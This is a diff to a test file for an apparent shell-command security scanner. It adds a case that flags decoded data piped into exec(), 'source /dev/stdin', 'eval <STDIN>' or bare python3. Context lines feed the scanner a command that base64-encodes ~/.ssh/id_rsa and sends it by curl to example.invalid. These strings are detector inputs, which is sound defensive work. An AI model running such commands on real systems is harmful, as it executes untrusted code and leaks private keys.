@@ -262,6 +262,15 @@ def test_a_decoded_payload_is_audited_as_what_it_holds() -> None:
     assert rules["shell-destructive"].provenance == ("| sh",)
 
 
+def test_what_was_decoded_is_data_to_a_program_that_is_written_down() -> None:
+    fed = "gunzip -c a.log.gz | strings | python3 -c "
+    assert "shell-decoded-execution" not in found(fed + '"import sys, json; print(len(json.load(sys.stdin)))"\n')
+    for program in ('"exec(input())"', '"import sys; exec(sys.stdin.read())"'):
+        assert found(fed + program + "\n")["python-eval"].severity is Severity.FAIL
+    for run in ("bash -c 'source /dev/stdin'", 'python3 -c "$(cat)"', "perl -e 'eval <STDIN>'", "python3"):
+        assert "shell-decoded-execution" in found(f"base64 -d a.txt | {run}\n"), run
+
+
 def test_a_secret_is_followed_through_a_variable_into_the_network() -> None:
     rules = found('k=$(cat ~/.ssh/id_rsa | base64)\ncurl "https://example.invalid/?q=$k"\n')
     assert rules["code-credential-sent"].location.line == 2
